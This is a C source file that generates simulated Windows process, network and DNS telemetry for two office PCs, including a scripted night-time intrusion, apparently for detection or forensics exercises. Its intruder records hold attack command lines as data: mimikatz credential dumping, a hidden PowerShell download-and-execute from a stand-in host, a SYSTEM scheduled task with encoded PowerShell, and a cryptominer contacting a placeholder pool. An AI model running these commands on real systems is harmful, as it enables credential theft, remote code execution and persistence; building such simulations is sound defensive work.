/* sim_activity - a working day on each computer, and what an intruder does at night. */
#include "sim_activity.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MINUTE_MS 60000ull
#define HOUR_MS (60 * MINUTE_MS)
#define DAY_MS (24 * HOUR_MS)
#define AT_MS(day, hour, minute)                                                                   \
    ((uint64_t)(day)*DAY_MS + (uint64_t)(hour)*HOUR_MS + (uint64_t)(minute)*MINUTE_MS)

#define SYSTEM "S-1-5-18"
#define NETWORK_SERVICE "S-1-5-20"
#define HANAKO "S-1-5-21-1004336348-1177238915-682003330-1101"
#define IT_ADMIN "S-1-5-21-1004336348-1177238915-682003330-1102"
#define KUMI "S-1-5-21-1004336348-1177238915-682003330-1104"
#define SYSTEM32 "\\Windows\\System32\\"
#define OFFICE "\\Program Files\\Office\\"

/* Of every computer; they run when the traces begin. */
#define PID_SYSTEM 4u
#define PID_SERVICES 700u
#define PID_RPC 900u    /* svchost.exe: DcomLaunch */
#define PID_TERM 1000u  /* svchost.exe: TermService, which accepts RDP */
#define PID_CACHE 1100u /* svchost.exe: Dnscache */
#define PID_SHELL 4000u /* explorer.exe of who sits there */
/* The intruder's session. */
#define PID_KUMI 6100u
#define PID_SHELL_DEAD 6200u
#define PID_TOOL 6300u
#define PID_SCRIPT 6400u
#define PID_TASK 6500u
#define PID_MINER 6600u

#define OFFICE_PIDS 5000u /* handed out again every OFFICE_PIDS_COUNT programs */
#define OFFICE_PIDS_COUNT 40u
#define ACCEPT_EVERY 4u /* of the others' tries; of the intruder's all are traced */
#define ACCEPT_LEAD_MS 3u
#define POOL "pool.example"
#define POOL_ADDRESS "192.175.48.250" /* of AS112: it answers nobody */
#define POOL_PORT 3333u

const char *const sim_host_addresses[SIM_HOSTS] = {"10.0.0.21", "10.0.0.22"};

struct maker {
    struct sim_activity *out;
    uint64_t random;
    uint32_t number[SIM_HOSTS]; /* of the last start */
    size_t process_cap, flow_cap, query_cap;
};

/* Room for one more item. */
static void *
grown(void *list, size_t count, size_t *cap, size_t item_len)
{
    if (count < *cap) {
        return list;
    }
    *cap = *cap == 0 ? 1024 : *cap * 2;
    list = realloc(list, *cap * item_len);
    if (list == NULL) {
        fprintf(stderr, "sim_activity: no memory\n");
        exit(1);
    }
    return list;
}

static uint64_t
below(struct maker *m, uint64_t limit)
{
    return sim_random(&m->random) % limit;
}

/* -- processes -------------------------------------------------------------------------------- */

/* The newest process of that pid on the computer. */
static uint32_t
number_of(const struct maker *m, enum sim_host host, uint32_t pid)
{
    for (size_t i = m->out->process_count; i-- > 0;) {
        if (m->out->process[i].host == host && m->out->process[i].pid == pid) {
            return m->out->process[i].number;
        }
    }
    return 0;
}

static void
add_process(struct maker *m, const struct sim_process *p)
{
    struct sim_activity *out = m->out;
    struct sim_process *made;

    out->process = grown(out->process, out->process_count, &m->process_cap, sizeof(*out->process));
    made = &out->process[out->process_count];
    *made = *p;
    made->parent_number = number_of(m, p->host, p->parent_pid);
    made->number = ++m->number[p->host];
    out->process_count++;
}

/* pid, parent, session, SID, folder, image, command line */
static const struct sim_process running[] = {
    {0, PID_SYSTEM, 0, 0, 0, 1, 0, SYSTEM, "", "System", "", 0, 0, 0, 0},
    {0, 400, PID_SYSTEM, 0, 0, 1, 0, SYSTEM, SYSTEM32, "smss.exe",
     "\\SystemRoot\\System32\\smss.exe", 0, 0, 0, 0},
    {0, 500, 400, 0, 0, 1, 0, SYSTEM, SYSTEM32, "wininit.exe", "wininit.exe", 0, 0, 0, 0},
    {0, PID_SERVICES, 500, 0, 0, 1, 0, SYSTEM, SYSTEM32, "services.exe",
     "C:\\Windows\\system32\\services.exe", 0, 0, 0, 0},
    {0, 712, 500, 0, 0, 1, 0, SYSTEM, SYSTEM32, "lsass.exe", "C:\\Windows\\system32\\lsass.exe", 0,
     0, 0, 0},
    {0, PID_RPC, PID_SERVICES, 0, 0, 1, 0, SYSTEM, SYSTEM32, "svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", 0, 0, 0, 0},
    {0, PID_TERM, PID_SERVICES, 0, 0, 1, 0, NETWORK_SERVICE, SYSTEM32, "svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k termsvcs -s TermService", 0, 0, 0, 0},
    {0, PID_CACHE, PID_SERVICES, 0, 0, 1, 0, NETWORK_SERVICE, SYSTEM32, "svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache", 0, 0, 0, 0},
    {0, PID_SHELL, 3900, 0, 0, 1, 1, HANAKO, "\\Windows\\", "explorer.exe",
     "C:\\Windows\\Explorer.EXE", 0, 0, 0, 0},
};

static const struct {
    const char *folder, *image, *command_line;
} programs[] = {
    {OFFICE, "OUTLOOK.EXE", "\"C:\\Program Files\\Office\\OUTLOOK.EXE\""},
    {OFFICE, "EXCEL.EXE", "\"C:\\Program Files\\Office\\EXCEL.EXE\" \"H:\\Angebote\\2026.xlsx\""},
    {"\\Program Files\\Browser\\", "browser.exe",
     "\"C:\\Program Files\\Browser\\browser.exe\" --profile=Default"},
    {SYSTEM32, "notepad.exe",
     "\"C:\\Windows\\system32\\notepad.exe\" H:\\\xe8\xa6\x8b\xe7\xa9\x8d.txt"},
    {SYSTEM32, "cmd.exe", "cmd.exe /c net use H: \\\\server\\h"},
};

/* A program every few minutes, from eight to five; a pid comes again after forty of them. */
static void
office_day(struct maker *m, enum sim_host host, unsigned day, uint32_t *next)
{
    uint64_t ms = AT_MS(day, 8, 0) + below(m, 10 * MINUTE_MS);

    while (ms < AT_MS(day, 17, 0)) {
        size_t which = (size_t)below(m, sizeof(programs) / sizeof(programs[0]));
        struct sim_process p = {
            .host = host,
            .pid = OFFICE_PIDS + 4 * ((*next)++ % OFFICE_PIDS_COUNT),
            .parent_pid = PID_SHELL,
            .start_ms = ms,
            .end_ms = ms + 1000 + below(m, 15 * MINUTE_MS),
            .session = 1,
            .sid = HANAKO,
            .folder = programs[which].folder,
            .image = programs[which].image,
            .command_line = programs[which].command_line,
        };

        add_process(m, &p);
        ms += MINUTE_MS + below(m, 20 * MINUTE_MS);
    }
}

/* Day 2, 10:20: who looks after the PC is on it over Remote Desktop for half an hour. */
static const struct sim_process admin[] = {
    {0, 7000, 6900, AT_MS(2, 10, 20) + 34000, AT_MS(2, 10, 50), 0, SIM_SESSION_ADMIN, IT_ADMIN,
     "\\Windows\\", "explorer.exe", "C:\\Windows\\Explorer.EXE", 0, 0, 0, 0},
    {0, 7004, 7000, AT_MS(2, 10, 25), AT_MS(2, 10, 49), 0, SIM_SESSION_ADMIN, IT_ADMIN, SYSTEM32,
     "mmc.exe", "mmc.exe compmgmt.msc", 0, 0, 0, 0},
    {0, 7008, 7000, AT_MS(2, 10, 30), AT_MS(2, 10, 31), 0, SIM_SESSION_ADMIN, IT_ADMIN, SYSTEM32,
     "cmd.exe", "cmd.exe /c ipconfig /all", 0, 0, 0, 0},
};

/* Day 2, 22:41: who guessed the password of kumi has a desktop. The shell of 22:42 ends before the
 * task that it made begins; the miner is a service. */
static const struct sim_process story[] = {
    {SIM_PC_A, PID_KUMI, 6000, AT_MS(2, 22, 41) + 4000, 0, 0, SIM_SESSION_INTRUDER, KUMI,
     "\\Windows\\", "explorer.exe", "C:\\Windows\\Explorer.EXE", 0, 0, 0, 1},
    {SIM_PC_A, PID_SHELL_DEAD, PID_KUMI, AT_MS(2, 22, 42), AT_MS(2, 22, 50), 0,
     SIM_SESSION_INTRUDER, KUMI, SYSTEM32, "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"", 0, 0, 0,
     1},
    {SIM_PC_A, PID_TOOL, PID_SHELL_DEAD, AT_MS(2, 22, 43), AT_MS(2, 22, 44), 0,
     SIM_SESSION_INTRUDER, KUMI, "\\Users\\kumi\\Downloads\\", "mimikatz.exe",
     "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", 0, 0, 0, 1},
    {SIM_PC_A, PID_SCRIPT, PID_SHELL_DEAD, AT_MS(2, 22, 49), AT_MS(2, 22, 58), 0,
     SIM_SESSION_INTRUDER, KUMI, SYSTEM32 "WindowsPowerShell\\v1.0\\", "powershell.exe",
     "powershell.exe -NoP -W Hidden -C \"IEX(New-Object "
     "Net.WebClient).DownloadString('http://update.example/in.ps1')\"",
     1, 0, 0, 1},
    {SIM_PC_A, PID_TASK, PID_SHELL_DEAD, AT_MS(2, 22, 57), AT_MS(2, 22, 57) + 900, 0,
     SIM_SESSION_INTRUDER, KUMI, SYSTEM32, "schtasks.exe",
     "schtasks /create /ru system /sc MINUTE /mo 60 /tn blackball /tr "
     "\"powershell -ep bypass -e SQBFAFgA\" /F",
     0, 0, 0, 1},
    {SIM_PC_A, PID_MINER, PID_SERVICES, AT_MS(2, 23, 2), 0, 0, 0, SYSTEM, "\\Windows\\",
     "sqhost.exe", "C:\\Windows\\sqhost.exe -watchdog", 0, 0, 0, 1},
};

static void
make_processes(struct maker *m)
{
    for (enum sim_host host = 0; host < SIM_HOSTS; host++) {
        uint32_t next = 0;

        for (size_t i = 0; i < sizeof(running) / sizeof(running[0]); i++) {
            struct sim_process p = running[i];

            p.host = host;
            add_process(m, &p);
        }
        for (unsigned day = 0; day < SIM_DAYS; day++) {
            office_day(m, host, day, &next);
        }
        for (size_t i = 0; i < sizeof(admin) / sizeof(admin[0]); i++) {
            struct sim_process p = admin[i];

            p.host = host;
            add_process(m, &p);
        }
    }
    for (size_t i = 0; i < sizeof(story) / sizeof(story[0]); i++) {
        add_process(m, &story[i]);
    }
}

/* -- connections and names -------------------------------------------------------------------- */

static void
add_flow(struct maker *m, const struct sim_flow *f)
{
    struct sim_activity *out = m->out;

    out->flow = grown(out->flow, out->flow_count, &m->flow_cap, sizeof(*out->flow));
    out->flow[out->flow_count++] = *f;
}

static void
add_query(struct maker *m, const struct sim_query *q)
{
    struct sim_activity *out = m->out;

    out->query = grown(out->query, out->query_count, &m->query_cap, sizeof(*out->query));
    out->query[out->query_count++] = *q;
}

/* What came over the network a moment before each try was logged; it closes within the minute. */
static void
make_accepts(struct maker *m, const struct sim_script *script)
{
    for (size_t i = 0; i < script->count; i++) {
        const struct sim_attempt *a = &script->attempt[i];
        int intruder = strcmp(a->source, script->intruder) == 0;
        struct sim_flow f = {.host = a->host,
                             .kind = SIM_ACCEPT,
                             .ms = a->second * 1000ull - ACCEPT_LEAD_MS,
                             .remote_port = a->port,
                             .local_port = a->service == SIM_RDP ? 3389 : 445,
                             .pid = a->service == SIM_RDP ? PID_TERM : PID_SYSTEM};

        if (a->second >= SIM_DAYS * SIM_DAY || a->source[0] == '\0' ||
            (!intruder && i % ACCEPT_EVERY != 0)) {
            continue;
        }
        memcpy(f.remote, a->source, SIM_ADDRESS_MAX);
        add_flow(m, &f);
        f.kind = SIM_CLOSE;
        f.ms += 1000 + below(m, 30000);
        add_flow(m, &f);
    }
}

/* The miner asks for its pool every ten minutes and connects; its owner's script looked for more.
 */
static void
make_mining(struct maker *m)
{
    struct sim_query script = {SIM_PC_A, AT_MS(2, 22, 49) + 700, PID_SCRIPT, "update.example",
                               "192.175.48.251;"};

    add_query(m, &script);
    for (uint64_t ms = AT_MS(2, 23, 2) + 2000; ms < AT_MS(2, 23, 50); ms += 10 * MINUTE_MS) {
        struct sim_query pool = {SIM_PC_A, ms, PID_MINER, POOL, POOL_ADDRESS ";"};
        struct sim_flow f = {.host = SIM_PC_A,
                             .kind = SIM_CONNECT_OUT,
                             .ms = ms + 150,
                             .remote = POOL_ADDRESS,
                             .remote_port = POOL_PORT,
                             .local_port = (uint16_t)(49700 + ms / MINUTE_MS % 1000),
                             .pid = PID_MINER};

        add_query(m, &pool);
        add_flow(m, &f);
        f.kind = SIM_CLOSE;
        f.ms += 9 * MINUTE_MS;
        add_flow(m, &f);
    }
}

static void
make_office_names(struct maker *m)
{
    for (size_t i = 0; i < m->out->process_count; i++) {
        const struct sim_process *p = &m->out->process[i];
        struct sim_query q = {p->host, p->start_ms + 400, p->pid, "intranet.example", "10.0.0.5;"};

        if (strcmp(p->image, "browser.exe") == 0) {
            add_query(m, &q);
        }
    }
}

/* -- the whole -------------------------------------------------------------------------------- */

static int
order_u64(uint64_t a, uint64_t b)
{
    return (a > b) - (a < b);
}

static int
flows_by_time(const void *left, const void *right)
{
    const struct sim_flow *a = left;
    const struct sim_flow *b = right;
    int order = order_u64(a->ms, b->ms);

    order = order != 0 ? order : order_u64(a->host, b->host);
    order = order != 0 ? order : order_u64(a->kind, b->kind);
    order = order != 0 ? order : strcmp(a->remote, b->remote);
    return order != 0 ? order : order_u64(a->remote_port, b->remote_port);
}

static int
queries_by_time(const void *left, const void *right)
{
    const struct sim_query *a = left;
    const struct sim_query *b = right;
    int order = order_u64(a->ms, b->ms);

    order = order != 0 ? order : order_u64(a->host, b->host);
    return order != 0 ? order : order_u64(a->pid, b->pid);
}

void
sim_activity_make(const struct sim_script *script, uint64_t seed, struct sim_activity *out)
{
    struct maker m = {.out = out, .random = seed ^ 0x6163746976697479ull};

    *out = (struct sim_activity){0};
    make_processes(&m);
    make_accepts(&m, script);
    make_mining(&m);
    make_office_names(&m);
    qsort(out->flow, out->flow_count, sizeof(*out->flow), flows_by_time);
    qsort(out->query, out->query_count, sizeof(*out->query), queries_by_time);
}

void
sim_activity_free(struct sim_activity *a)
{
    free(a->process);
    free(a->flow);
    free(a->query);
    *a = (struct sim_activity){0};
}
